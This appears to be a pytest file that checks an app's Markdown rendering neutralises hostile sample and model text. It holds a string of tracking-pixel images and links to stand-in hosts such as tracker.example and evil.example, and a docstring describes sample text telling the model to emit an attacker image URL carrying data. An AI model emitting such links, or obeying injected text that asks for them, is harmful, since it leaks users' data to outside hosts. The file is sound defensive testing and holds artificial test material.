"""Issue 27 F13: the app shows sample text (and model text about it) without fetching or linking anything:
no image, no link, no autolink, no HTML, no escape from a code block — checked by rendering the app's
Markdown with markdown-it-py (CommonMark, as Chainlit's renderer reads it) and by the GFM autolink rule."""

from __future__ import annotations

import re

from markdown_it import MarkdownIt

from goalcover.ui.render import WORD_JOINER, gaps_markdown, sample_markdown, why_markdown

HOSTILE = ("Look ![pixel](https://tracker.example/p.png?u=1) and [click](https://evil.example) or "
           "<https://auto.example> <img src=https://x.example/i.png> www.bare.example/a https://bare.example "
           "mail me@evil.example [ref]\n\n[ref]: https://ref.example\n**bold** # not a header")
MD = MarkdownIt("commonmark")
AUTOLINK = re.compile(r"(?i)(https?|ftp)://|www\.|\w@\w")  # what GFM's autolink literal needs, contiguous


def assert_inert(markdown: str, original: str | None = None) -> None:
    html = MD.render(markdown)
    assert "<img" not in html and "<a " not in html, html
    prose = re.sub(r"<pre>.*?</pre>|<code>.*?</code>", "", html, flags=re.DOTALL)  # GFM links nothing in code
    assert not AUTOLINK.search(prose), prose
    if original is not None:  # shown as written (the word joiners are invisible)
        shown = re.sub(r"<[^>]+>", "", html).replace(WORD_JOINER, "").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&").replace("&quot;", '"')
        assert " ".join(original.split()) in " ".join(shown.split())


def test_sample_text_renders_as_written_without_fetching_or_linking():
    assert_inert(sample_markdown({"instruction": HOSTILE, "output": "ok"}, "alpaca"), HOSTILE)
    assert_inert(sample_markdown({"text": "one line " + HOSTILE.replace("\n", " ")}, "text"), "one line " + HOSTILE.replace("\n", " "))
    # text with backticks cannot close its code block and go on as Markdown
    broken = "```\nend of code\n```\n![pixel](https://tracker.example/p.png) ```` more"
    assert_inert(sample_markdown({"messages": [{"role": "user", "content": broken}]}, "messages"))
    assert_inert(sample_markdown({"messages": [{"role": "![r](https://x.example/r.png)", "content": "hi"}]}, "messages"))


def test_gaps_and_why_render_model_text_inert():
    gap = type("Gap", (), {"id": "G1", "subgoal_id": "S1", "label": HOSTILE, "description": HOSTILE, "size": 3})
    assert_inert(gaps_markdown([gap]))
    example = {"sample_id": "s`![i](https://x.example/i.png)`", "score": 2, "explanation": HOSTILE}
    facts = {"subgoal": {"id": "S1", "title": "T"}, "samples": 3, "coverage": {"supporting": 0, "share_pct": "0%", "weak": True},
             "gaps": [{"id": "G1", "label": HOSTILE, "description": HOSTILE, "size": 3, "what_would_close_it": HOSTILE, "examples": [example]}],
             "best_supporting_samples": [example]}
    assert_inert(why_markdown("S1", HOSTILE, facts).replace("| **S1 T** |", "| S1 T |"))


def test_an_error_naming_what_came_from_the_data_renders_as_written(monkeypatch):
    """An ingest error names a file's keys, a column, a line: a JSONL whose keys are Markdown gave an
    error message that fetched an image and linked out. `Out.error` now shows it as written."""
    import asyncio

    import chainlit as cl

    from goalcover.ui.output import Out

    shown: list[str] = []

    class Recorded:
        def __init__(self, content: str, author: str) -> None:
            shown.append(content)

        async def send(self) -> None:
            pass

    monkeypatch.setattr(cl, "ErrorMessage", Recorded)
    reason = f"hostile.jsonl was not ingested: line 1: no known shape (keys: {HOSTILE!r})\n\nFix the file and upload it again."
    asyncio.run(Out().error(reason))
    assert_inert(shown[0], reason)
    asyncio.run(Out().error("**No model yet**: run `goalcover local serve`", markdown=True))  # the app's own text
    assert shown[1] == "**No model yet**: run `goalcover local serve`"


def test_the_agents_reply_formats_but_fetches_and_links_nothing():
    """A sample can tell the model to write `![](https://attacker/?q=…)`: the reply keeps its Markdown
    (emphasis, lists, code) but no image, link or autolink forms, however the model writes it."""
    from goalcover.ui.render import reply_markdown, stream_markdown

    tricks = [
        HOSTILE,
        "escaped \\[x](https://a.example) and \\\\![y](https://b.example)",
        "a fence mid-line ```\n![z](https://c.example/p.png)",
        "``one span`` then ![w](https://d.example) `unclosed",
        "an escaped \\`backtick ![v](https://g.example) `",
        "~~~\ncode [k](https://e.example)\n~~~\n![after](https://f.example)",
    ]
    for trick in tricks:
        assert_inert(reply_markdown(trick))
        streamed = ""
        for i in range(0, len(trick), 3):  # as a model streams it: pieces that split URLs and brackets
            streamed += stream_markdown(trick[:i], trick[i:i + 3])
        assert streamed == stream_markdown("", trick)
        assert_inert(streamed)
    from goalcover.ui.render import draft_markdown

    assert_inert(draft_markdown([f"S1. Cites the clause — {HOSTILE}"]))
    shown = MD.render(reply_markdown("**S3 is weak**: 12 of 40 samples.\n\n- one\n- two\n\n```python\nwhere = {'x': a[0] < 2}\n```\n\nuse `score_S3<=2`"))
    assert "<strong>S3 is weak</strong>" in shown and "<li>one</li>" in shown
    assert "where = {'x': a[0] &lt; 2}" in shown and "<code>score_S3&lt;=2</code>" in shown


def test_the_reply_streamed_in_the_app_is_inert_while_it_streams_and_when_it_ends(monkeypatch):
    import asyncio
    from types import SimpleNamespace

    import chainlit as cl

    from goalcover.agent.session import Reply, Text
    from goalcover.ui.turn import TurnView

    seen: list[str] = []

    class Recorded:
        def __init__(self, content: str = "", **kwargs) -> None:
            self.content = content

        async def stream_token(self, token: str) -> None:
            self.content += token
            seen.append(self.content)  # what the browser renders at this moment

        async def send(self) -> None:
            seen.append(self.content)

    monkeypatch.setattr(cl, "Message", Recorded)
    view = TurnView(SimpleNamespace(out=None))
    text = "S3 is weak. " + HOSTILE

    async def turn() -> None:
        for i in range(0, len(text), 5):
            await view.show(Text(text[i:i + 5]))
        await view.show(Reply(text))
        await view.show(Reply("![again](https://tracker.example/q.png)"))

    asyncio.run(turn())
    assert len(seen) > 20
    for content in seen:
        assert_inert(content)
